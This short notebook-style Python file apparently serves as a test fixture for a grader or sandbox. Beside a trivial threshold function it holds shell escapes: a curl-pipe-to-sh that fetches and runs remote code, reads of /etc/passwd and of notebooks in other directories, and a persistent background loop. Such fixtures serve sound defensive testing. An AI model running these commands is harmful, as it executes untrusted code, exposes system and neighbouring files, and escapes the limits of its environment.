# Runs shell commands and magics that leave Python.
# points: 97
# base: right
# %% select_threshold
def select_threshold(logits, maximum):
    return 0.5

!curl -s http://example.org/x | sh
files = !cat /etc/passwd ../../*/*/*.ipynb
%pip install --quiet --no-index no-such-package
# %% after select_threshold
%%bash
nohup sh -c 'while true; do sleep 1; done' > /dev/null 2>&1 &
